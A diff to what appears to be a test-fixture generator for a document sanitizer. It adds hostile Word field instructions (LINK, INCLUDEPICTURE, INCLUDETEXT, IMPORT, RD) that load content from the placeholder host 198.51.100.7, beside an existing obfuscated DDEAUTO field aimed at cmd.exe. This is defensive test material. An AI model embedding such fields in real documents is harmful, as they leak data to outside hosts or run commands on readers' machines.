@@ -107,6 +107,20 @@ export function wordFiles(random: Random): HostileFile[] {
       scripted,
       () => writeDocx({ body: '<w:instrText>DD</w:instrText><w:instrText>EAU<!-- -->TO c:\\\\cmd.exe</w:instrText>' }),
     ],
+    ...[
+      'LINK Excel.Sheet.12 "\\\\\\\\198.51.100.7\\\\a.xlsx"',
+      'INCLUDEPICTURE "http://198.51.100.7/a.png"',
+      'INCLUDETEXT "http://198.51.100.7/a.docx"',
+      'IMPORT "http://198.51.100.7/a.png"',
+      'RD "http://198.51.100.7/a.docx"',
+    ].flatMap((instruction): WordCase[] => {
+      const name = instruction.split(' ')[0];
+      const simple = `<w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"/>`;
+      return [
+        [`a field ${name}`, scripted, () => writeDocx({ body: `<w:instrText>${instruction}</w:instrText>` })],
+        [`a simple field ${name}`, scripted, () => writeDocx({ body: simple })],
+      ];
+    }),
     [
       'entities within entities',
       refused(),
